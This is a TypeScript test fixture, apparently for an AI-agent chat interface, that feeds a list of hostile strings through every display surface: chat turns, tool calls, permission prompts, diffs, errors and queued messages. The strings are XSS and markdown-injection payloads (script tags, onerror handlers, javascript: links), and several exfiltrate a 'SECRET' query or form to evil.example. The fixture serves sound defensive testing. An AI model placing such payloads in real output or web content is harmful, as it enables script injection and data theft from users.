/** Texts that would like to be more than text, in every place that shows one. */
import type { OpenView } from "@varve/client";
import type { QueuedMessage, TabId } from "@varve/protocol";
import { chunkId, RowWriter, turnId } from "./fake-rows.ts";
import type { FakeScene } from "./fake-tab.ts";

export const HOSTILE: readonly string[] = [
  "<script>window.P=1</script>",
  '<img src=x onerror="window.P=1">',
  "<svg/onload=window.P=1>",
  '<iframe srcdoc="<script>parent.P=1</script>"></iframe>',
  "[x](javascript:window.P=1)",
  "[x](data:text/html,<script>1</script>)",
  "![x](https://evil.example/p.png?q=SECRET)",
  '<img src="https://evil.example/p?q=1">',
  "$\\href{javascript:alert(1)}{x}$",
  '<form action="https://evil.example"><button>ok</button></form>',
  "<a href='//evil.example' onclick=window.P=1>x</a>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.P=1>",
  '```html onload="window.P=1"\n<script>window.P=1</script>\n```',
];

export function hostileScene(id: TabId, at: number): FakeScene {
  const w = new RowWriter(id, at);
  const turn = "hostile";
  for (const [index, text] of HOSTILE.entries()) {
    const callId = `h${index}`;
    w.user(text, { turn });
    w.think(text, { turn, step: index });
    w.say(`Before ${text} after\n\n${text}\n\n- ${text}\n\n> ${text}\n\n| ${text} |\n|---|\n| ${text} |`, {
      turn,
      step: index,
    });
    w.call(callId, "bash", { command: text }, { turn, step: index });
    const subject = { tool: "bash", key: text, command: text };
    w.system(
      { kind: "permission", state: "asked", askId: chunkId(`ask-${callId}`), callId, subject },
      { turn, step: index },
    );
    w.result({ callId, name: "bash", result: text, isError: false, details: { summary: text } }, { turn, step: index });
    w.call(`e${index}`, "edit", { path: text }, { turn, step: index });
    const diff = `@@ -1 +1 @@\n-${text}\n+${text}\n`;
    w.result(
      { callId: `e${index}`, name: "edit", result: text, isError: false, details: { path: text, diff } },
      { turn, step: index },
    );
    w.call(`o${index}`, text, { path: text }, { turn, step: index });
    w.result({ callId: `o${index}`, name: text, result: text, isError: true }, { turn, step: index });
    w.error({ message: text, hint: text }, { turn, step: index });
    w.system({ kind: "notice", level: "info", code: "x", text }, { turn, step: index });
  }
  const all = HOSTILE.join("\n\n");
  const open: OpenView = {
    id: chunkId("growing"),
    turnId: turnId(turn),
    step: 99,
    index: 0,
    role: "assistant",
    type: "text",
    at,
    text: all,
  };
  const place = { version: 1, state: "queued", delivery: "steer", by: "me", at } as const;
  const queue = HOSTILE.map(
    (text, index): QueuedMessage => ({ ...place, id: chunkId(`q${index}`), position: index, data: { text } }),
  );
  return { rows: w.rows, open: [open], queue, status: { state: "running", turnId: turnId(turn), step: 99 } };
}
